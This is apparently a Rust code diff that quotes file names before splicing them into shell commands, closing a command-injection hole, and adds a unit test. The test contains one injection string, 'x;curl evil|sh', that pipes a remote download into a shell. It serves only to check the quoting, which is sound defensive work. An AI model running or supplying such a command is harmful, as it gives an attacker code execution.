@@ -150,7 +150,10 @@ pub fn roll_forward(git: &Repo, who: &Identity, req: &Request<'_>) -> Result<Out
                         continue;
                     };
                     let stem = newest.split('.').next().unwrap_or(newest);
-                    let command = command.replace("{name}", stem).replace("{sha}", &short);
+                    // File names come from the commits being reverted: quoted, never code.
+                    let command = command
+                        .replace("{name}", &shell_quote(stem))
+                        .replace("{sha}", &shell_quote(&short));
                     if !req.run_generators {
                         not_run.push(command);
                         continue;
@@ -226,6 +229,11 @@ fn picked_message(original: &str, commit: Oid) -> String {
     message.push_str(if trailers { "\n" } else { "\n\n" });
     message.push_str(&format!("(cherry picked from commit {commit})\n"));
     message
+}
+
+/// `text` as one single-quoted shell word.
+fn shell_quote(text: &str) -> String {
+    format!("'{}'", text.replace('\'', "'\\''"))
 }
 
 fn conflict(what: &str, git: &Repo, commit: Oid, paths: &[String]) -> anyhow::Error {
@@ -340,6 +348,13 @@ mod tests {
             picked_message("Fix it\n\nSigned-off-by: A <a@x>\n", id),
             format!("Fix it\n\nSigned-off-by: A <a@x>\n(cherry picked from commit {hex})\n")
         );
+    }
+
+    #[test]
+    fn names_are_quoted_for_the_shell() {
+        assert_eq!(shell_quote("0016_email"), "'0016_email'");
+        assert_eq!(shell_quote("x;curl evil|sh"), "'x;curl evil|sh'");
+        assert_eq!(shell_quote("it's"), "'it'\\''s'");
     }
 
     #[test]
